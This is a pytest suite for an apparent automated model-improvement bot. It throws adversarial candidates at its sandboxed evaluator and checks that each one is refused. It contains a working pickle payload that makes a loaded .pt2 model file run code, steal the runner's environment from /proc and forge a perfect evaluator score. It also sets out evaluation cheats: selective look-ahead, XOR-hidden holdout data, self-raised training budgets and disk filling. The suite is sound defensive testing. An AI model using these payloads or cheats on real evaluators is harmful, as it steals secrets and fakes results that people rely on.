"""Attacks on the evaluator and the runner's limits (issue 11), each a real candidate through the real Loop and Runner.

Like test_adversarial.py, against a deliberately weak champion, with the sandbox required; this suite also sets
small limits so that each attack meets one quickly: a 10 MiB file limit under a 50 MiB disk cap per run, a
scoring deadline of twice the champion's own scoring time, at least 20 s (a cold worker's start-up included). Its temporary directories live in a private folder,
so what a run leaves behind can be counted. The honest control, last, is still promoted under these limits.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import numpy as np
import pytest
import yaml

from evaluator.data import prepare
from runner import sandbox as sb
from runner.job import Runner, export_tree
from runner.scorer import EvaluatorWorker

from ..conftest import ROOT, TINY, commit_change
from .test_adversarial import SECRET, Suite, after_knobs, better, replace, slow_forward

pytestmark = pytest.mark.slow

MARKER = "arbot-model-file-ran-code-3e9b"
CACHE = Path(os.environ["ARBOT_CACHE"])

# Rewrites an exported .pt2 so that torch.export.load runs `code`: as a weight stored with use_pickle (read with
# torch.load(weights_only=False)) or as pickled sample inputs (read again with weights_only=False on failure).
POISON = '''
def _poison(path, kind, code):
    import io, json, zipfile
    import torch as _torch

    class _Run:
        def __reduce__(self):
            return (exec, (code,))

    with zipfile.ZipFile(path) as z:
        entries = {i.filename: z.read(i) for i in z.infolist()}
    root = next(iter(entries)).split("/", 1)[0]
    buf = io.BytesIO()
    if kind == "weight":
        name = f"{root}/data/weights/model_weights_config.json"
        config = json.loads(entries[name])
        meta = next(iter(config["config"].values()))
        meta["use_pickle"] = True
        _torch.save(_Run(), buf)
        entries[f"{root}/data/weights/{meta['path_name']}"] = buf.getvalue()
        entries[name] = json.dumps(config).encode()
    else:
        _torch.save((_Run(),), buf)
        entries[f"{root}/data/sample_inputs/model.pt"] = buf.getvalue()
    with zipfile.ZipFile(path, "w") as z:
        for name, data in entries.items():
            z.writestr(name, data)
'''


def payload(drop: Path) -> str:
    """What the model file runs when loaded: steal the runner's environment into a file, then answer the runner
    with a perfect score as if it were the evaluator."""
    return (f"import json, os\n"
            f"for p in ({str(drop / MARKER)!r}, os.path.join(os.getcwd(), {MARKER!r})):\n"
            f"    try:\n"
            f"        open(p, 'w').write(open('/proc/%d/environ' % os.getppid()).read())\n"
            f"    except OSError:\n"
            f"        pass\n"
            f"print(json.dumps({{'status': 'ok', 'metrics': {{'val_bpb': 0.5}}, 'reason': ''}}), flush=True)\n")


@pytest.fixture(scope="module")
def suite(tmp_path_factory):
    box = sb.resolve("auto", sb.Limits())
    if box.kind != "bwrap":
        pytest.skip(f"the adversarial suite needs bubblewrap: {box.note}")
    root = tmp_path_factory.mktemp("evaluator-attacks")
    tmp = root / "tmp"  # the runner's temporary directories, to count what is left behind
    tmp.mkdir()
    saved, tempfile.tempdir = tempfile.tempdir, str(tmp)
    os.environ["ARBOT_FAKE_SECRET"] = SECRET  # what the model file's code would steal; never in a record
    try:
        s = Suite(root, artifacts=root / "runs",
                  target={"max_file_gb": 0.01, "max_disk_gb": 0.05},
                  evaluator={"timeout_seconds": 20, "timeout_factor": 2})
        s.tmp = tmp
        s.drop = root / "drop"  # a host folder anyone may write into: the model file's code would leave its mark here
        s.drop.mkdir()
        os.chmod(s.drop, 0o777)
        yield s
    finally:
        tempfile.tempdir = saved
        os.environ.pop("ARBOT_FAKE_SECRET", None)
    print("\nevaluator attacks:\n" + "\n".join(s.rows))


def left_behind(suite) -> dict[str, list[str]]:
    names = sorted(p.name for p in suite.tmp.iterdir())
    return {prefix: [n for n in names if n.startswith(prefix)] for prefix in ("arbot-run-", "arbot-evaluator-")}


def no_marker(suite) -> None:
    found = [*suite.drop.iterdir(), *suite.tmp.rglob(MARKER)]  # the evaluator's working directory is under tmp
    assert not found, found


# --- finding 1: code in the model file --------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["weight", "sample_inputs"])
def test_a_model_file_that_runs_code_when_loaded_is_refused(suite, kind):
    code = after_knobs(better(suite.source), POISON)
    code = replace(code, 'torch.export.save(program, out / "model.pt2")',
                   'torch.export.save(program, out / "model.pt2")\n'
                   f'_poison(out / "model.pt2", {kind!r}, {payload(suite.drop)!r})')
    rec = suite.attack(f"Export a model whose {kind} run code", code)
    run = rec.runs[0]
    assert rec.decision.verdict == "rejected" and run.status == "rejected" and not run.metrics
    assert "model file refused" in run.reason and ("use_pickle" in run.reason if kind == "weight" else
                                                   "sample inputs" in run.reason), run.reason
    no_marker(suite)


def test_the_model_file_check_holds_without_the_scoring_sandbox(suite, tmp_path):
    """The same poisoned files, scored by an unsandboxed worker of the champion's evaluator: refused before torch
    loads them. The attacks are real: plain torch.export.load runs their code."""
    honest = next((suite.runner.artifacts / suite.start[:12]).glob("seed-*/model.pt2"))
    scope: dict = {}
    exec(POISON, scope)
    worker = EvaluatorWorker(suite.start, CACHE, threads=1)
    export_tree(suite.repo, suite.start, "evaluator", worker.dir)
    try:
        for kind in ("weight", "sample_inputs"):
            (tmp_path / kind).mkdir()
            model = tmp_path / kind / "model.pt2"
            model.write_bytes(honest.read_bytes())
            scope["_poison"](model, kind, payload(tmp_path / kind))
            answer = worker.score(model, ("val",), "cpu", deadline=120)
            assert answer["status"] == "invalid" and "model file refused" in answer["reason"], answer
        assert not list(tmp_path.rglob(MARKER)) and not (worker.dir / MARKER).exists()
    finally:
        worker.close()
    load = "import sys, torch\nfor m in sys.argv[1:]:\n    try:\n        torch.export.load(m)\n    except Exception:\n        pass"
    subprocess.run([sys.executable, "-c", load, *(str(tmp_path / k / "model.pt2") for k in ("weight", "sample_inputs"))],
                   cwd=tmp_path, capture_output=True, timeout=120)
    assert (tmp_path / "weight" / MARKER).exists() and (tmp_path / "sample_inputs" / MARKER).exists()


# --- finding 2: look-ahead except where the old probe looked -------------------------------------------------


def test_looks_ahead_except_on_the_rows_of_the_first_validation_batch(suite):
    """Reads the next byte, except on rows that start like a row of the first validation batch (the only batch
    the old probe perturbed, at fixed cut points, always after the first byte): causal wherever it used to be
    probed. The probes now run on batches drawn with a secret seed from val and holdout."""
    T, B = TINY["SEQ_LEN"], 8  # the exported batch is EVAL_BATCH = 8
    val = np.fromfile(prepare(CACHE).path("val"), dtype=np.uint8)
    starts = sorted({int(val[r * T]) for r in range(B)})
    code = replace(better(suite.source), "        return self.head(self.ln_f(x))", f"""        logits = self.head(self.ln_f(x))
        if self.training:
            return logits
        probed = (idx[:, :1] == torch.tensor({starts!r}, device=idx.device)).any(-1, keepdim=True)
        nxt = F.one_hot(torch.roll(idx, -1, dims=1), 256).to(logits.dtype)
        return logits + 4.0 * nxt * (~probed).to(logits.dtype)[:, :, None]""")
    rec = suite.attack("Peek at the next byte where nobody looks", code)
    assert rec.decision.verdict == "rejected" and "looks ahead" in rec.runs[0].reason, rec.runs[0].reason


# --- finding 3: memorised held-out data ------------------------------------------------------------------------


def test_carries_the_public_holdout_xor_encoded_in_short_hex_strings(suite):
    """The issue's form: the public holdout, XOR 0x5a then hex, in strings under the embedded-data limit, decoded
    at import. Flagged (literal-payload, holdout-data): a win waits for a human, never merged."""
    blob = bytes(b ^ 0x5A for b in suite.prepared.holdout.read_bytes()[:24000]).hex()
    pieces = "\n".join(f"_H{i} = {blob[j:j + 1790]!r}" for i, j in enumerate(range(0, len(blob), 1790)))
    names = " + ".join(f"_H{i}" for i in range(0, (len(blob) + 1789) // 1790))
    code = after_knobs(better(suite.source), f"{pieces}\n_MEMO = bytes(b ^ 0x5A for b in bytes.fromhex({names}))")
    rec = suite.attack("Carry the public holdout, XOR + hex", code)
    kinds = {f.split(":")[0] for r in rec.runs for f in r.flags}
    assert {"literal-payload", "holdout-data"} <= kinds, kinds
    assert rec.decision.verdict != "win" or rec.review == "needed"


def test_a_split_key_makes_val_and_holdout_unknowable_and_never_reaches_training(suite, tmp_path, monkeypatch):
    """With ARBOT_SPLIT_KEY the runner prepares other val and holdout blocks than the public rule's (another
    fingerprint, another cache), the sandboxed worker scores on them without the key, and training sees no key."""
    key = "a secret only the operator holds 7f1c"
    leak = replace(suite.source, "def parse_args():", "import os\nassert not any('7f1c' in v for v in "
                   "os.environ.values())\n\n\ndef parse_args():")
    sha = commit_change(suite.repo, "arbot/split-key", suite.start, {"target/train.py": leak}, "does training see the key?")
    monkeypatch.setenv("ARBOT_SPLIT_KEY", key)
    keyed = Runner(suite.repo, suite.config.target, suite.config.evaluator)
    run = keyed.run(sha, suite.start, seed=0, splits=("val", "holdout"))
    assert run.status == "ok" and run.sandbox == "bwrap", run.reason
    assert run.evaluator_fingerprint != suite.prepared.fingerprint
    data = keyed._prepared(suite.start, keyed._scorer(suite.start).dir)
    assert data["split_key"] != "none" and key not in json.dumps(data)
    for split in ("val", "holdout"):
        assert Path(data[split]).read_bytes() != getattr(suite.prepared, split).read_bytes()


# --- finding 4: the budget, changed from inside -----------------------------------------------------------------


def test_multiplies_its_own_budget(suite):
    code = after_knobs(better(suite.source), '_i = sys.argv.index("--budget") + 1\n'
                                             'sys.argv[_i] = str(float(sys.argv[_i]) * 20)  # train 20x longer')
    rec = suite.attack("Train longer than the budget says", code)
    run = rec.runs[0]
    assert rec.decision.verdict in ("rejected", "timeout") and "over_budget" in run.reason, run.reason
    assert not run.metrics


# --- finding 5: scoring without end, and what a killed runner leaves --------------------------------------------


def test_a_model_too_expensive_to_score_is_killed_at_the_deadline(suite):
    rec = suite.attack("An expensive forward pass", slow_forward(suite.source, width=2048, layers=16))  # ~1 s a batch
    run = rec.runs[0]
    assert rec.decision.verdict == "rejected" and run.reason.startswith("scoring_timeout"), run.reason
    assert "the champion's own scoring time" in run.reason or "timeout_seconds" in run.reason
    assert run.score_seconds is not None and run.score_seconds < 120
    worker = suite.runner._worker
    assert worker.proc is None or worker.proc.poll() is not None  # killed, sandbox and all
    assert left_behind(suite) == {"arbot-run-": [], "arbot-evaluator-": [worker.dir.name]}


def test_a_runner_killed_mid_run_leaves_nothing_after_the_next_start(suite, tmp_path):
    """SIGKILL of the runner process while the candidate trains: the sandbox dies with it (--die-with-parent),
    its temporary directories stay; the next runner to start removes them."""
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    sha = commit_change(suite.repo, "killed-run", suite.start, {
        "target/train.py": replace(suite.source, "out = Path(args.out)", "time.sleep(600)\nout = Path(args.out)")},
        "sleeps")
    env = {**os.environ, "TMPDIR": str(tmp)}
    runner = ("import sys, git\nfrom pathlib import Path\nfrom bot.config import load_config\nfrom runner.job import Runner\n"
              "repo = git.Repo(sys.argv[1])\ncfg = load_config(Path(sys.argv[1]) / 'arbot.yml')\n"
              "r = Runner(repo, cfg.target, cfg.evaluator)\n")
    proc = subprocess.Popen([sys.executable, "-c", runner + "r.run(sys.argv[2], sys.argv[3])",
                             suite.repo.working_tree_dir, sha, suite.start], cwd=ROOT, env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while not training(tmp):
            assert proc.poll() is None and time.monotonic() < deadline, "the run never started training"
            time.sleep(0.2)
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    left = sorted(p.name.rsplit("-", 1)[0] for p in tmp.iterdir())
    assert left == ["arbot-evaluator", "arbot-run"], left
    for _ in range(50):  # the sandboxed training dies with its parent
        if not training(tmp):
            break
        time.sleep(0.1)
    assert not training(tmp)
    subprocess.run([sys.executable, "-c", runner, suite.repo.working_tree_dir], cwd=ROOT, env=env, check=True,
                   timeout=120)
    assert list(tmp.iterdir()) == []


def training(tmp: Path) -> bool:
    """Whether a process (bwrap or the candidate itself) trains from a work dir under tmp."""
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            args = cmdline.read_bytes().split(b"\0")
        except OSError:
            continue
        if any(a.startswith(str(tmp).encode()) for a in args) and b"train.py" in args:
            return True
    return False


# --- finding 6: disk ---------------------------------------------------------------------------------------------


def test_fills_the_disk_with_files_each_under_the_file_limit(suite):
    code = after_knobs(better(suite.source), "for _i in range(24):  # 8 MiB each: under max_file_gb, 192 MiB in all\n"
                                             "    with open(f'shard_{_i}.bin', 'wb') as _f:\n"
                                             "        _f.write(bytes(8 << 20))")
    rec = suite.attack("Cache a lot of data on disk", code)
    run = rec.runs[0]
    assert rec.decision.verdict == "rejected" and run.reason.startswith("disk_cap"), run.reason
    assert "max_disk_gb" in run.reason and not run.metrics


# --- finding 7: no sandbox where one is required ----------------------------------------------------------------


def test_without_bubblewrap_arbot_evaluate_refuses_and_trains_nothing(suite, tmp_path):
    """`arbot evaluate` (the GitHub workflow's job) with no target.sandbox in the config requires the sandbox:
    with bwrap missing from PATH it ends with a clear setup error, before anything is trained."""
    bin_dir, tmp = tmp_path / "bin", tmp_path / "tmp"
    bin_dir.mkdir()
    tmp.mkdir()
    os.symlink(subprocess.run(["which", "git"], capture_output=True, text=True, check=True).stdout.strip(), bin_dir / "git")
    config = yaml.safe_load((Path(suite.repo.working_tree_dir) / "arbot.yml").read_text())
    del config["target"]["sandbox"]
    (tmp_path / "arbot.yml").write_text(yaml.safe_dump(config))
    sha = commit_change(suite.repo, "no-sandbox", suite.start, {"target/train.py": better(suite.source)}, "honest")
    proc = subprocess.run([sys.executable, "-m", "bot", "evaluate", sha, "--champion", suite.start, "--json",
                           "--repo", suite.repo.working_tree_dir, "--config", str(tmp_path / "arbot.yml")],
                          cwd=tmp_path, env={**os.environ, "PATH": str(bin_dir), "TMPDIR": str(tmp), "COLUMNS": "400"},
                          capture_output=True, text=True, timeout=120)
    out = " ".join((proc.stdout + proc.stderr).split())
    assert proc.returncode == 2, out
    assert "target.sandbox is 'require'" in out and "bubblewrap (bwrap) is not installed" in out, out
    assert "target.sandbox: auto" in out and '"status"' not in out
    assert list(tmp.iterdir()) == []  # nothing was set up, let alone trained
    suite.rows.append(f"{'no bubblewrap, arbot evaluate':38} exit {proc.returncode} | {out[:100]}")


# --- control -----------------------------------------------------------------------------------------------------


def test_honest_candidate_still_wins_under_these_limits(suite):
    """Control, run last (it moves the champion): the honest improvement stays within the disk cap, the budget
    allowance and the scoring deadline, and is promoted."""
    suite.proposer.next = ("Raise LEARNING_RATE to 3e-3", {"target/train.py": better(suite.source)})
    rec = suite.loop.step()
    assert rec.decision.verdict == "win" and rec.merged_as and rec.review is None, rec.decision
    assert all(r.status == "ok" and r.flags == [] and r.sandbox == "bwrap" for r in rec.runs)
    assert suite.forge.champion() == rec.merged_as
    assert left_behind(suite)["arbot-run-"] == []
    suite.rows.append(f"{'honest control (no cheat)':38} {rec.decision.verdict:9} merged | {rec.decision.reason[:90]}")
